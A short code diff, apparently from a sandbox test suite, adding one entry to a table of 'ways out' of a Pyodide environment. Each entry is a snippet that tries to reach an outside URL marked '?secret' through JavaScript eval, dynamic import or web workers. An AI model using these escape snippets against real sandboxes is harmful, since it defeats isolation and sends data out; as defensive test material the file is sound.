@@ -249,6 +249,13 @@ WAYS_OUT = {
     "import()": "from pyodide.code import run_js\nrun_js('import(\"{}?secret\")')",
     "eval": "from pyodide.code import run_js\nrun_js('eval(\"fetch(`{}?secret`)\")')",
     "worker": "import js\njs.Worker.new('{}?secret')",
+    "worker of ours": """
+from pyodide.code import run_js
+run_js('''
+  const worker = new Worker("/worker.js");
+  const files = { "pyodide.mjs": "{}?secret", "lock.json": "{}?secret" };
+  worker.postMessage({ id: 0, files, calls: "os", call: "getcwd", args: [] });
+''')""",
     "worker from a blob": """
 from pyodide.code import run_js
 run_js('''
